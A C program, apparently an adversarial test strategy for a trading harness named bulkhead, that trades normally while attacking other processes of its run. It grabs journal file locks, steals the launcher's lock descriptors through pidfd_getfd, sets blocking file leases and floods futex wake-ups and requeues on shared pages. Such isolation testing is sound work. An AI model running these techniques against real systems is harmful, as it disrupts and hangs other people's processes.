/* A strategy that trades correctly and attacks what other processes of its run wait for: file locks and wake-ups. Prints each success once as
 * `got: …`. Every success could harm others.
 *
 *   thief locks OUT     waits for the lock of each journal of the runs in that folder, as every process may that can open the file
 *   thief files OUT     the same, takes each lease that it can get on a file of these runs, and watches their folders
 *   thief takes OUT     takes the locks from the launcher, by its descriptors, and holds them itself; `refused` where the kernel keeps it from that
 *   thief moves         moves the waiters of each word that it maps and on which a thread of the run may wait
 *   thief wakes         wakes the waiters of all such words, also of others' where it can open them, without end
 */
#define _GNU_SOURCE
#include "bulkhead.h"

#include <dirent.h>
#include <fcntl.h>
#include <linux/futex.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define FUTEX_REQUEUE_CALL 456
#define WORDS 96
#define MAPPINGS 64

/* As linux/futex.h of newer kernels has it. */
struct waiter {
    uint64_t value, address;
    uint32_t flags, reserved;
};

static void got(const char *what, const char *where) {
    fprintf(stderr, "got: %s %s\n", what, where);
}

/* Waits for the lock of a file, which the kernel grants once no other process holds it. */
static void *take_lock(void *path) {
    int file = open(path, O_RDONLY);
    if (file >= 0 && flock(file, LOCK_EX) == 0) got("lock", path);
    for (;;) pause();
    return path;
}

static pthread_t start(void *(*body)(void *), void *argument) {
    pthread_t thread;
    if (pthread_create(&thread, NULL, body, argument) != 0) {
        got("no thread", "");
        exit(1);
    }
    return thread;
}

/* Calls `each` with every path below a folder, subfolders first, down to the given depth. */
static void walk(const char *folder, int depth, void (*each)(const char *path, int is_folder)) {
    DIR *entries = opendir(folder);
    if (entries == NULL) return;
    for (struct dirent *entry; (entry = readdir(entries)) != NULL;) {
        char path[4096];
        struct stat facts;
        if (entry->d_name[0] == '.') continue;
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        if (lstat(path, &facts) != 0) continue;
        if (S_ISDIR(facts.st_mode) && depth > 0) walk(path, depth - 1, each);
        each(path, S_ISDIR(facts.st_mode));
    }
    closedir(entries);
}

static void lock_journal(const char *path, int is_folder) {
    const char *name = strrchr(path, '/');
    if (!is_folder && !strcmp(name, "/lock")) start(take_lock, strdup(path));
}

/* Releases a lock through a copy of the launcher's descriptor, and takes it. */
static void rob_launcher(const char *path, int is_folder) {
    struct stat wanted, facts;
    if (is_folder || strcmp(strrchr(path, '/'), "/lock") || stat(path, &wanted) != 0) return;
    int launcher = (int)syscall(SYS_pidfd_open, getppid(), 0);
    for (int number = 3; number < 256; number++) {
        int copy = (int)syscall(SYS_pidfd_getfd, launcher, number, 0);
        if (copy < 0 || fstat(copy, &facts) != 0 || facts.st_ino != wanted.st_ino || facts.st_dev != wanted.st_dev) {
            close(copy);
            continue;
        }
        int own = open(path, O_RDONLY);
        flock(copy, LOCK_UN);
        if (flock(own, LOCK_EX | LOCK_NB) == 0) return;
    }
    fprintf(stderr, "refused\n");
}

static int watch;

static void watch_folder(const char *path, int is_folder) {
    if (is_folder && strstr(path, "/journal-") != NULL && inotify_add_watch(watch, path, IN_OPEN) >= 0) got("watch", path);
}

/* Takes a lease on a file that no process has open: a process that opens it then blocks or fails. */
static void lease(const char *path, int is_folder) {
    if (is_folder) return;
    int file = open(path, O_RDONLY | O_NONBLOCK);
    if (file < 0) return;
    if (fcntl(file, F_SETLEASE, F_WRLCK) == 0 || fcntl(file, F_SETLEASE, F_RDLCK) == 0)
        got("lease", path);
    else
        close(file);
}

static void *take_leases(void *out) {
    for (;;) {
        walk(out, 3, lease);
        usleep(2000);
    }
    return out;
}

/* The pages with words on which a thread of the run may wait. */
static uint32_t *mappings[MAPPINGS];
static int mapped = 0;

/* Set before `bh_finish` unmaps these pages. */
static atomic_int is_over;

static void find_mapped(void) {
    FILE *maps = fopen("/proc/self/maps", "r");
    char line[512];
    while (maps != NULL && fgets(line, sizeof line, maps) != NULL && mapped < MAPPINGS) {
        uintptr_t begin, end;
        if (strstr(line, ".bell-") == NULL && strstr(line, ".wake-") == NULL && strstr(line, ".control") == NULL) continue;
        if (sscanf(line, "%lx-%lx", &begin, &end) == 2) mappings[mapped++] = (uint32_t *)begin;
    }
    if (mapped == 0) got("nothing", "mapped");
}

static void open_by_name(const char *path, int is_folder) {
    if (is_folder || mapped == MAPPINGS || strstr(path, getenv("BULKHEAD_RUN")) == NULL) return;
    if (strstr(path, ".bell-") == NULL && strstr(path, ".wake-") == NULL) return;
    int file = open(path, O_RDONLY);
    void *page = file < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_SHARED, file, 0);
    if (page != MAP_FAILED) mappings[mapped++] = page;
}

static uint32_t own;

static long move_by(uint32_t *word, int operation) {
    return syscall(SYS_futex, word, operation, 0, INT32_MAX, &own, *(volatile uint32_t *)word);
}

/* Moves the waiters of a word to a word of this program. An operation on private futexes may succeed without waiters. */
static void move_waiters(uint32_t *word, char *where) {
    if (move_by(word, FUTEX_REQUEUE) >= 0) got("requeue", where);
    if (move_by(word, FUTEX_CMP_REQUEUE) >= 0) got("compare and requeue", where);
    if (move_by(word, FUTEX_REQUEUE | FUTEX_PRIVATE_FLAG) > 0) got("private requeue", where);
    if (move_by(word, FUTEX_CMP_REQUEUE | FUTEX_PRIVATE_FLAG) > 0) got("private compare and requeue", where);
    if (syscall(SYS_futex, &own, FUTEX_WAKE_OP, 0, INT32_MAX, word, FUTEX_OP(FUTEX_OP_OR, 0, FUTEX_OP_CMP_EQ, 0)) >= 0)
        got("wake by operation", where);
    struct waiter both[2] = {{*(volatile uint32_t *)word, (uintptr_t)word, 2, 0}, {0, (uintptr_t)&own, 2, 0}};
    if (syscall(FUTEX_REQUEUE_CALL, both, 0, 0, INT32_MAX) >= 0) got("futex_requeue", where);
}

static void *move_all(void *unused) {
    static const char *const names[2] = {"once", "again"};
    for (int round = 0; !is_over; round += round < 1) {
        for (int page = 0; page < mapped; page++)
            for (int word = 0; word < WORDS; word += 2) move_waiters(mappings[page] + word, (char *)names[round]);
        usleep(5000);
    }
    return unused;
}

static void *wake_all(void *unused) {
    while (!is_over) {
        for (int page = 0; page < mapped; page++)
            for (int word = 0; word < WORDS; word += 2) {
                syscall(SYS_futex, mappings[page] + word, FUTEX_WAKE, INT32_MAX);
                syscall(SYS_futex, mappings[page] + word, FUTEX_WAKE_BITSET, INT32_MAX, NULL, NULL, FUTEX_BITSET_MATCH_ANY);
            }
        usleep(1000);
    }
    return unused;
}

/* Sends an order about every two milliseconds, until the run is over. */
static void trade(uint64_t orders) {
    bh_report reports[16];
    bh_order order = {.price = 41300, .quantity = 1000000, .time_in_force = BH_IMMEDIATE_OR_CANCEL};
    for (uint64_t sent = 0; sent < orders;) {
        int32_t code = bh_send(&order, NULL);
        if (code == BH_OK) sent++;
        if (bh_poll(reports, 16, 2000000) == BH_OVER) return;
        if (code == BH_OK) usleep(1500);
    }
}

int main(int count, char **arguments) {
    const char *what = count > 1 ? arguments[1] : "";
    if (bh_attach(BH_VERSION) != BH_OK) return 1;
    bh_context run;
    bh_get_context(&run);
    signal(SIGIO, SIG_IGN);
    setlinebuf(stderr);
    if (!strcmp(what, "locks") || !strcmp(what, "files")) walk(arguments[2], 3, lock_journal);
    if (!strcmp(what, "takes")) walk(arguments[2], 3, rob_launcher);
    if (!strcmp(what, "files")) {
        watch = inotify_init1(IN_CLOEXEC);
        walk(arguments[2], 3, watch_folder);
        start(take_leases, arguments[2]);
    }
    find_mapped();
    int wakes = !strcmp(what, "wakes"), moves = !strcmp(what, "moves");
    pthread_t attack;
    if (wakes) walk("/dev/shm", 0, open_by_name);
    if (wakes || moves) attack = start(wakes ? wake_all : move_all, NULL);
    trade(run.orders);
    is_over = 1;
    if (wakes || moves) pthread_join(attack, NULL);
    return bh_finish() == BH_OK ? 0 : 2;
}
